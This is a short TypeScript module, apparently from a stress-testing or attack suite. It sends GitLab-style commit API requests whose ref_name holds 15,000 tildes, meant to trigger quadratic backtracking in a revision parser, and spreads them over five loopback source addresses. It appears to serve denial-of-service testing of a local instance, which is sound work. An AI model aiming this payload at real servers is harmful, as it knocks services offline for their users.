import { repeat, type Attack } from './attack.js';
import { get } from './wire.js';

const LENGTH = 15_000;
/** Links to pages repeat the URL. */
const LARGEST_HEADERS = 2 ** 18;

/** Revisions that a backtracking parser reads in quadratic time, from five addresses. */
export const revisions: Attack = async ({ url, projectId }, tally) => {
  const path = `/api/v4/projects/${projectId}/repository/commits?ref_name=main${'~'.repeat(LENGTH)}x`;
  repeat(tally, 5, 0, (lane) =>
    get(url, path, { localAddress: `127.0.4.${1 + lane}`, maxHeaderSize: LARGEST_HEADERS }),
  );
};
